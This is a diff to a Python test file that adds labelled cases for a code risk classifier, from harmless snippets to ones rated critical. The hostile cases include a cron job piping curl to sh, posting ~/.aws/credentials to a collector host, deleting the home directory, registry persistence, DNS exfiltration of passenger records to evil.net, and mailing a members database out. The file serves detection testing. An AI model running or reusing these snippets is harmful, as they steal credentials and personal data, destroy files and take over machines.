@@ -2391,7 +2391,9 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
         ("from lxml import etree\np = etree.XMLParser(resolve_entities=False)", S),
         # tunnels, attack libraries, local captures, pickle round trips, local task runners
         ('from pyngrok import ngrok\nt = ngrok.connect(22, "tcp")', H),
-        ("from pyngrok import ngrok\nt = ngrok.connect(8000)", M),
+        # an HTTP tunnel anyone with the URL can use, as `ngrok http 8000` in the shell; behind a login, a preview
+        ("from pyngrok import ngrok\nt = ngrok.connect(8000)", H),
+        ("from pyngrok import ngrok\nt = ngrok.connect(8000, basic_auth=['reviewer:' + pw])", M),
         ('from pwn import remote\nr = remote("prod.example.com", 9000)\nr.interactive()', H),
         ('from pwn import remote\nr = remote("localhost", 1337)', S),
         ('from scapy.all import sniff\nsniff(iface="lo", filter="tcp port 8000", count=40)', L),
@@ -4845,6 +4847,154 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             '    async with aiohttp.ClientSession() as s, asyncio.TaskGroup() as tg:\n'
             '        for n in range(20):\n            tg.create_task(fetch(s, n))',
             L,
+        ),
+        (
+            "import subprocess\nsettings = {'http.sslVerify': 'false'}\n"
+            'for k, v in settings.items():\n'
+            "    subprocess.run(['git', 'config', '--global', k, v])",
+            H,
+        ),
+        (
+            "import threading, requests\nCFG = {'requests': None}\ndef hammer():\n    n = 0\n"
+            "    while CFG['requests'] is None or n < 5:\n"
+            "        requests.get('https://shop.example/search')\n        n += 1\n"
+            'for _ in range(500):\n    threading.Thread(target=hammer).start()',
+            H,
+        ),
+        (
+            'import threading, requests\ndef fetch(i):\n'
+            "    requests.get(f'https://api.example/items/{i}')\nfor i in range(8):\n"
+            '    threading.Thread(target=fetch, args=(i,)).start()',
+            L,
+        ),
+        (
+            'import winreg\nwith winreg.OpenKey(winreg.HKEY_CURRENT_USER, '
+            "r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_READ) as k:\n"
+            "    print(winreg.QueryValueEx(k, 'OneDrive'))",
+            S,
+        ),
+        (
+            'import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, '
+            "r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\n"
+            "winreg.SetValueEx(k, 'upd', 0, winreg.REG_SZ, r'C:\\Users\\Public\\u.exe')",
+            H,
+        ),
+        (
+            'from crontab import CronTab\ncron = CronTab(user=True)\n'
+            "job = cron.new(command='python3 manage.py clearsessions')\n"
+            "cron.write('deploy/crontab.proposed')",
+            S,
+        ),
+        (
+            'from crontab import CronTab\ncron = CronTab(user=True)\n'
+            "job = cron.new(command='curl -s http://x.example/a | sh')\ncron.write()",
+            H,
+        ),
+        (
+            'import json, os, pathlib, requests\n'
+            "pathlib.Path('.t.json').write_text(json.dumps({'include': "
+            "['~/.aws/credentials']}))\n"
+            "conf = json.loads(pathlib.Path('.t.json').read_text())\n"
+            "for p in conf['include']:\n"
+            "    requests.post('https://collector.example/in', "
+            'data=pathlib.Path(os.path.expanduser(p)).read_text())',
+            C,
+        ),
+        (
+            "import json, pathlib\npathlib.Path('.t.json').write_text(json.dumps({'include': "
+            "['README.md']}))\nconf = json.loads(pathlib.Path('.t.json').read_text())\n"
+            "for p in conf['include']:\n    print(pathlib.Path(p).read_text()[:80])",
+            S,
+        ),
+        (
+            'import os, shutil, tomllib\n'
+            'open(\'cleanup.toml\', \'wb\').write(b\'[cleanup]\\npurge = ["~"]\\n\')\n'
+            "with open('cleanup.toml', 'rb') as f:\n    cfg = tomllib.load(f)['cleanup']\n"
+            "for t in cfg['purge']:\n    shutil.rmtree(os.path.expanduser(t))",
+            C,
+        ),
+        (
+            'import functools, http.server, json, os, socketserver\n'
+            "json.dump({'root': '~', 'bind': '0.0.0.0'}, open('share.json', 'w'))\n"
+            "s = json.load(open('share.json'))\n"
+            'h = functools.partial(http.server.SimpleHTTPRequestHandler, '
+            "directory=os.path.expanduser(s['root']))\n"
+            "socketserver.TCPServer((s['bind'], 8000), h).serve_forever()",
+            H,
+        ),
+        (
+            'import yaml, asyncio, aiohttp\n'
+            "cfg = yaml.safe_load('target: https://shop.example/search\\nconcurrency: "
+            "5000\\n')\nasync def hammer(s, url):\n    while True:\n"
+            '        async with s.get(url) as r:\n            await r.read()\n'
+            'async def main():\n    async with aiohttp.ClientSession() as s:\n'
+            "        await asyncio.gather(*(hammer(s, cfg['target']) for _ in "
+            "range(cfg['concurrency'])))",
+            H,
+        ),
+        (
+            "import json, requests\nc = requests.get('https://api.example/cfg').text or '{}'\n"
+            "cfg = json.loads(c)\nprint(cfg.get('name'))",
+            L,
+        ),
+        (
+            'import os, yaml\nkcfg = '
+            "yaml.safe_load(open(os.path.expanduser('~/.kube/config')))\n"
+            "print(kcfg.get('current-context'))",
+            M,
+        ),
+        ("from pyngrok import ngrok\ntunnel = ngrok.connect('127.0.0.1:8081', 'http')", H),
+        (
+            'import gnupg\nfrom pathlib import Path\n'
+            "gpg = gnupg.GPG(gnupghome=str(Path.home() / '.gnupg'))\n"
+            "gpg.encrypt_file(open('drafts/a.md', 'rb'), recipients=['ABCD'], "
+            "output='out/a.gpg')",
+            M,
+        ),
+        (
+            'import glob, requests\n'
+            "for p in glob.glob('/srv/securedrop-export/**/*.jpg', recursive=True):\n"
+            "    requests.post('https://geo.example/v2/locate', files={'image': open(p, "
+            "'rb')})",
+            C,
+        ),
+        (
+            'import os, smtplib, sqlite3\n'
+            "rows = sqlite3.connect('/var/www/ghost/content/data/ghost.db').execute('SELECT "
+            "email, name FROM members').fetchall()\n"
+            "with smtplib.SMTP_SSL('smtp.gmail.com', 465) as s:\n"
+            "    s.sendmail('a@b.c', 'broker@gmail.com', str(rows))",
+            C,
+        ),
+        (
+            "import sqlite3\nrow = sqlite3.connect('app.db').execute('SELECT email FROM "
+            "members WHERE id = ?', (4,)).fetchone()\nprint(row)",
+            S,
+        ),
+        (
+            "import subprocess\ndef handle_downlink(msg):\n    text = msg['free_text']\n"
+            '    subprocess.Popen(text, shell=True)',
+            C,
+        ),
+        ("import subprocess\ndef build_report(name):\n    subprocess.run(['make', name])", L),
+        (
+            'import ipaddress, socket\n'
+            "for host in ipaddress.ip_network('10.40.0.0/16').hosts():\n"
+            '    s = socket.socket()\n    s.connect_ex((str(host), 502))',
+            H,
+        ),
+        (
+            "import ipaddress\nfor host in ipaddress.ip_network('10.40.0.0/16').hosts():\n"
+            '    print(host)',
+            S,
+        ),
+        ("with open('/etc/hosts', 'a') as fh:\n    fh.write('45.77.10.9\\tapi.sita.aero\\n')", H),
+        (
+            'import socket, sqlite3\n'
+            "for loc, name, ff in sqlite3.connect('pnr.sqlite').execute('SELECT "
+            "record_locator, pax_name, ffp_number FROM pnr'):\n"
+            "    socket.gethostbyname(f'{loc}{ff}'.encode().hex()[:60] + '.t.evil.net')",
+            C,
         ),
     ],
 )
